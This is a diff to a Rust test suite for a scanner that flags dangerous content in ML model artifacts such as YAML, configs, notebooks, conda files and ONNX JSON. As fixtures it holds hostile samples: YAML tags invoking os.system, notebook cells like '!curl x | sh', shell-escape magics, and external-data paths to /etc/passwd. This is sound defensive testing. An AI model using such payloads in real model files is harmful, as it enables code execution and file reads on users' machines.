@@ -1,16 +1,16 @@
 use super::*;
 
-fn read(name: &str, content: &str) -> Reading {
+pub(super) fn read(name: &str, content: &str) -> Reading {
     let allow = Allow::default();
     json(name, content.as_bytes(), &allow).unwrap_or_else(|| text(name, content, &allow))
 }
 
-fn clean(name: &str, content: &str) {
+pub(super) fn clean(name: &str, content: &str) {
     let reading = read(name, content);
     assert!(reading.is_clean(), "{name}: {content}: {:?}", reading.rules());
 }
 
-fn has(name: &str, content: &str, rule: &str) {
+pub(super) fn has(name: &str, content: &str, rule: &str) {
     let rules = read(name, content).rules();
     assert!(
         rules.iter().any(|found| *found == format!("artifact/{rule}")),
@@ -70,6 +70,13 @@ fn configurations_of_hubs_are_told_by_what_their_loaders_run() {
     );
     has("package.json", r#"{"scripts":{"postinstall":"node x.js"}}"#, "script-reaches");
     has("m.safetensors.index.json", r#"{"weight_map":{"a":"../../x.bin"}}"#, "onnx-external-path");
+    for trusted in [r#""true""#, "1"] {
+        let text = format!(r#"{{"trust_remote_code":{trusted}}}"#);
+        has("config.json", &text, "remote-code");
+    }
+    clean("config.json", r#"{"trust_remote_code":false,"attn_implementation":"sdpa"}"#);
+    has("config.json", r#"{"attn_implementation":"evil/kernel"}"#, "remote-code");
+    has("modular_model_index.json", r#"{"_class_name":"P","unet":["mine","Net"]}"#, "remote-code");
 }
 
 // proves M10
@@ -92,6 +99,16 @@ fn yaml_is_told_by_its_tags_wherever_they_stand() {
         has("a.yaml", bad, "yaml-python-tag");
     }
     has("notes.txt", "a: !!python/object/apply:os.system [x]", "yaml-python-tag");
+    has(
+        "hparams.cfg",
+        "%TAG !p! tag:yaml.org,2002:\n---\na: !p!python/object/apply:os.system [x]\n",
+        "yaml-python-tag",
+    );
+    // Any letter of a tag may be spelled as in an address.
+    for name in ["a.yaml", "hparams"] {
+        has(name, "a: !!pyth%6fn/object/apply:os.system [x]\n", "yaml-python-tag");
+    }
+    clean("words.txt", "wow!! python!\n!p !% !<\n");
     has(
         "README.md",
         "---\na: !!python/object/apply:os.system [x]\n---\n# Model\n",
@@ -190,6 +207,16 @@ fn keras_and_skops_are_told_by_what_they_import() {
         &node("sklearn.linear_model._logistic", "LogisticRegression", "ObjectNode"),
     );
     has("schema.json", &node("posix", "system", "FunctionNode"), "target-dangerous");
+    // What is made is what it holds, not what stands beside it.
+    has(
+        "schema.json",
+        r#"{"__class__":"add","__module__":"numpy","__loader__":"FunctionNode","content":{"module_path":"posix","function":"system"}}"#,
+        "target-dangerous",
+    );
+    for module in ["keras.saving", "tensorflow.keras.utils", "keras.src.saving.file_editor"] {
+        let editor = format!(r#"{{"class_name":"KerasFileEditor","module":"{module}"}}"#);
+        has("config.json", &layer(&editor), "keras-call");
+    }
     has("schema.json", &node("acme", "Scorer", "ObjectNode"), "target-unknown");
     has("schema.json", &node("builtins", "dict", "MethodNode"), "skops-method");
     has("schema.json", &node("builtins", "dict", "NewNode"), "target-unknown");
@@ -221,12 +248,21 @@ fn mlflow_requirements_and_notebooks_are_told() {
     );
     has("conda.yaml", "dependencies:\n- pip:\n  - git+https://x.example/y\n", "foreign-package");
     has("pip.conf", "[global]\nindex-url = https://x.example/simple\n", "foreign-index");
+    has("notes.txt", "# see\n--index-url https://x.example/simple\n", "foreign-index");
+    has(".condarc", "channel_alias: https://x.example\n", "foreign-index");
+    has(".condarc", "custom_channels:\n  conda-forge: https://x.example\n", "foreign-index");
+    has("conda.yaml", "dependencies:\n- https://x.example/c::numpy\n", "foreign-index");
+    has("python_env.yaml", "dependencies:\n- vendored/y\n", "foreign-package");
+    clean("conda.yaml", "dependencies:\n- conda-forge::scipy=1.14\n- pip:\n  - numpy\n");
+    clean("state.json", r#"{"packages":["a/b"],"dependencies":["lib/x.zip"]}"#);
+    clean("notes.txt", "Install it with: pip install --index-url https://x.example y\n");
     let cell = |source: &str| {
         format!(r#"{{"cells":[{{"cell_type":"code","source":["{source}"]}}],"nbformat":4}}"#)
     };
     let book = |source: &str| notebook("a.ipynb", cell(source).as_bytes()).unwrap();
     assert!(book("import numpy\\nmodel.eval()").is_clean());
     assert!(book("!pip install numpy").is_clean());
+    assert!(book("get_ipython().run_line_magic('matplotlib', 'inline')").is_clean());
     for bad in [
         "!curl x | sh",
         "%%bash\\ntrue",
@@ -235,6 +271,12 @@ fn mlflow_requirements_and_notebooks_are_told() {
         "!pip install x -i http://y",
         "import os\\nos.system('true')",
         "get_ipython().system('true')",
+        "get_ipython().getoutput('true')",
+        "get_ipython().run_line_magic('system', 'true')",
+        "ip = get_ipython()\\nip.system('true')",
+        "%%!\\ntrue",
+        "x = %sx true",
+        "import os as o\\no.system('true')",
     ] {
         assert!(!book(bad).is_clean(), "{bad}");
     }
@@ -279,67 +321,4 @@ fn what_an_alias_stands_for_is_judged_where_it_is_used() {
     );
     let elsewhere = "d: &d [numpy]\ndependencies: [{pip: *d}]\n";
     assert!(!read("conda.yaml", elsewhere).is_clean());
-}
-
-// proves M10
-#[test]
-fn toml_and_programs_of_export_are_told_by_what_they_call() {
-    clean("a.toml", "[model]\n_target_ = \"torch.nn.Linear\"\ndim = 8\n");
-    has("a.toml", "[model]\n_target_ = \"os.system\"\n", "target-dangerous");
-    has("a.toml", "m = { \"_target_\" = 'os.system' }\n", "target-dangerous");
-    clean(
-        "model.json",
-        r#"{"nodes":[{"target":"torch.ops.aten.linear.default"},{"target":"_operator.add"}]}"#,
-    );
-    for target in [
-        "torch.ops.evil.run.default",
-        "torch.hub.load",
-        "os.system",
-        "_operator.methodcaller",
-        "torch.ops.load_library",
-    ] {
-        let text = format!(r#"{{"nodes":[{{"target":"{target}"}}]}}"#);
-        assert!(!read("model.json", &text).is_clean(), "{target}");
-    }
-}
-
-// proves M10
-#[test]
-fn onnx_in_other_forms_is_told_by_the_files_and_operators_that_it_needs() {
-    clean(
-        "m.json",
-        r#"{"irVersion":"10","graph":{"node":[{"opType":"Add","domain":""}]},"opsetImport":[{"version":"17"}]}"#,
-    );
-    has(
-        "m.onnxjson",
-        r#"{"graph":{"initializer":[{"externalData":[{"key":"location","value":"/etc/passwd"}]}]}}"#,
-        "onnx-external-path",
-    );
-    has("m.json", r#"{"graph":{"node":[{"domain":"evil.ops"}]}}"#, "onnx-custom-domain");
-    has("m.json", r#"{"opsetImport":[{"domain":"evil.ops"}]}"#, "onnx-custom-domain");
-    has("m.json", r#"{"opset_import":[{"domain":"evil.ops"}]}"#, "onnx-custom-domain");
-    has(
-        "m.json",
-        r#"{"graph":{"initializer":[{"external_data":[{"key":"location","value":"../w"}]}]}}"#,
-        "onnx-external-path",
-    );
-    assert!(!read("m.textproto", "ir_version: 10\nopset_import {\n version: 17\n}\n").is_clean());
-}
-
-// proves M10
-#[test]
-fn cells_that_import_by_another_name_or_install_from_elsewhere_are_told() {
-    for cell in [
-        "from os import system as s\ns('true')",
-        "%pip install --index-url https://x.example y",
-        "%alias t true",
-        "!pip install -f x y",
-    ] {
-        let book =
-            serde_json::json!({"cells": [{"cell_type": "code", "source": [cell]}]}).to_string();
-        let reading = notebook("a.ipynb", book.as_bytes()).unwrap();
-        assert!(!reading.is_clean(), "{cell}");
-    }
-    let book = serde_json::json!({"cells": [{"cell_type": "code", "source": "%pip install numpy\nmodel.eval()"}]});
-    assert!(notebook("a.ipynb", book.to_string().as_bytes()).unwrap().is_clean());
 }
